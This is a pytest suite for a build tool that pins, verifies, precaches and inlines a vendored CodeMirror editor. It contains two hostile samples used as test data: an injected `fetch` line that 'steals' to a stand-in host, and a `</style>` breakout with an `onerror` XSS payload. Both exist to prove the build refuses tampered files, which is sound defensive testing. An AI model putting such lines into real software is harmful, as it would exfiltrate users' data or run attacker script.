"""The code editor the build ships (buildtool/editor.py): CodeMirror fetched into the cache,
every byte checked against its pin, copied into dist/vendor/codemirror/, precached by the
service worker, inlined into the single-file app, and never committed."""
from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:  # buildtool/ sits at the repo root, beside pywasm/
    sys.path.insert(0, str(ROOT))

from buildtool import editor  # noqa: E402
from buildtool.common import BuildError, cache_dir, sha256_file  # noqa: E402
from buildtool.dist import build  # noqa: E402

SHA256_RE = re.compile(r"^[0-9a-f]{64}$")


@pytest.fixture(scope="module")
def real_tarball() -> Path:
    """The pinned tarball in the build cache (fetched with npm once)."""
    return editor.fetch_tarball(cache_dir())


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("editor") / "dist"
    build(quiet=True, out=out)
    return out


def _tarball_with(src: Path, dest: Path, replace: dict[str, bytes]) -> Path:
    """A copy of the npm tarball `src` with some members' bytes replaced."""
    with tarfile.open(src, "r:gz") as tin, tarfile.open(dest, "w:gz") as tout:
        for member in tin.getmembers():
            data = tin.extractfile(member).read() if member.isfile() else None
            if member.name in replace:
                data = replace[member.name]
                member.size = len(data)
            tout.addfile(member, io.BytesIO(data) if data is not None else None)
    return dest


def test_every_shipped_file_is_pinned():
    assert editor.CODEMIRROR_VERSION == "5.65.21"
    assert SHA256_RE.match(editor.TARBALL_SHA256)
    assert set(editor.SCRIPTS) | set(editor.STYLES) | {"LICENSE"} == set(editor.FILES)
    assert editor.SCRIPTS[0] == "codemirror.js"  # the others register on window.CodeMirror
    wanted = {"lib/codemirror.js", "lib/codemirror.css", "mode/python/python.js", "addon/runmode/runmode.js"}
    assert wanted <= {path for path, _ in editor.FILES.values()}
    for name, (_, pin) in editor.FILES.items():
        assert SHA256_RE.match(pin), name
    # web/lib/editor.js loads the same scripts, in the same order, from the same directory
    js = (ROOT / "web" / "lib" / "editor.js").read_text(encoding="utf-8")
    assert re.findall(r'\["([a-z]+\.js)", \(\)', js) == editor.SCRIPTS
    assert f'const VENDOR = "{editor.VENDOR_DIR}/"' in js


def test_cache_holds_exactly_the_pinned_bytes(real_tarball):
    assert sha256_file(real_tarball) == editor.TARBALL_SHA256
    out = editor.prepare_codemirror(cache_dir())
    for name, (_, pin) in editor.FILES.items():
        assert sha256_file(out / name) == pin, name


def test_tampered_tarball_is_refused(real_tarball, tmp_path):
    bad = tmp_path / editor.NPM_TARBALL
    data = bytearray(real_tarball.read_bytes())
    data[len(data) // 2] ^= 1
    bad.write_bytes(bytes(data))
    with pytest.raises(BuildError, match=rf"sha256 mismatch for {re.escape(editor.NPM_TARBALL)}"):
        editor.prepare_codemirror(tmp_path)
    assert not (tmp_path / f"codemirror-{editor.CODEMIRROR_VERSION}" / "codemirror.js").exists()


@pytest.mark.parametrize("member", ["lib/codemirror.js", "mode/python/python.js", "addon/runmode/runmode.js"])
def test_tampered_file_in_the_package_is_refused(real_tarball, tmp_path, member):
    """Each file has its own pin: a package whose file differs is refused even when its
    tarball's own hash is not what stops it."""
    with tarfile.open(real_tarball, "r:gz") as tar:
        original = tar.extractfile(f"package/{member}").read()
    evil = original + b"\nfetch('https://example.invalid/steal');\n"
    tgz = _tarball_with(real_tarball, tmp_path / "evil.tgz", {f"package/{member}": evil})
    out = tmp_path / "out"
    with pytest.raises(BuildError, match=re.escape(member)):
        editor.extract(tgz, out)
    name = next(n for n, (p, _) in editor.FILES.items() if p == member)
    assert not (out / name).exists() or sha256_file(out / name) == editor.FILES[name][1]


def test_missing_file_in_the_package_is_refused(real_tarball, tmp_path):
    slim = tmp_path / "slim.tgz"
    with tarfile.open(real_tarball, "r:gz") as tin, tarfile.open(slim, "w:gz") as tout:
        for member in tin.getmembers():
            if member.name != "package/mode/python/python.js":
                tout.addfile(member, tin.extractfile(member) if member.isfile() else None)
    with pytest.raises(BuildError, match="has no package/mode/python/python.js"):
        editor.extract(slim, tmp_path / "out")


def test_a_changed_cached_file_is_extracted_again(real_tarball, tmp_path):
    shutil.copy(real_tarball, tmp_path / editor.NPM_TARBALL)
    out = editor.prepare_codemirror(tmp_path)
    (out / "codemirror.js").write_text("window.CodeMirror = null;")
    assert editor.prepare_codemirror(tmp_path) == out
    assert sha256_file(out / "codemirror.js") == editor.FILES["codemirror.js"][1]


def test_dist_ships_the_files_and_precaches_them(site):
    info = json.loads((site / "build-info.json").read_text())
    sw = (site / "sw.js").read_text(encoding="utf-8")
    precache = json.JSONDecoder().raw_decode(sw[sw.index("const PRECACHE = ") + len("const PRECACHE = "):])[0]
    listed = {path for path, _, _ in precache["files"]}
    for name, (_, pin) in editor.FILES.items():
        rel = f"{editor.VENDOR_DIR}/{name}"
        assert sha256_file(site / rel) == pin, rel
        assert info["files"][rel]["sha256"] == pin
        assert rel in listed, rel  # offline after the first visit, like the rest of dist/
    assert {"lib/editor.js", "lib/editor.css"} <= listed
    assert sorted(p.name for p in (site / editor.VENDOR_DIR).iterdir()) == sorted(editor.FILES)


def test_single_file_inlines_the_editor_before_the_modules(site):
    html = (site / "descentlab.html").read_text(encoding="utf-8")
    page = html.split('<script type="application/x-descentlab-asset"')[0]
    inline = re.findall(r'<(script|style) data-descentlab-inline="([^"]+)">', page)
    assert inline == ([("style", f"{editor.VENDOR_DIR}/{n}") for n in editor.STYLES] + [("style", "lib/editor.css")]
                      + [("script", f"{editor.VENDOR_DIR}/{n}") for n in editor.SCRIPTS])
    # classic scripts run before the import map's modules, in CodeMirror's load order
    assert page.index(f'data-descentlab-inline="{editor.VENDOR_DIR}/codemirror.js"') < page.index('<script type="importmap">')
    codemirror = (site / editor.VENDOR_DIR / "codemirror.js").read_text(encoding="utf-8")
    assert codemirror in page
    importmap = json.loads(re.search(r'<script type="importmap">(.*?)</script>', page).group(1))
    assert "@descentlab/lib/editor.js" in importmap["imports"]


def test_inlining_refuses_text_that_would_end_its_element(site, tmp_path):
    out = tmp_path / "dist"
    shutil.copytree(site / editor.VENDOR_DIR, out / editor.VENDOR_DIR)
    (out / "lib").mkdir()
    (out / "lib" / "editor.css").write_text("/* </style><img src=x onerror=alert(1)> */")
    with pytest.raises(BuildError, match="lib/editor.css contains '</style'"):
        editor.inline_html(out)
    (out / "lib" / "editor.css").write_text(".dl-editor {}")
    (out / editor.VENDOR_DIR / "python.js").write_text("/* changed in dist/ after the build */")
    with pytest.raises(BuildError, match="sha256 mismatch"):
        editor.inline_html(out)


def test_codemirror_is_never_committed():
    tracked = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.split("\n")
    assert not [p for p in tracked if "codemirror" in p.lower() or p.startswith(("web/vendor/", "dist/"))]
    assert not (ROOT / "web" / "vendor").exists()  # would be copied over dist/vendor/
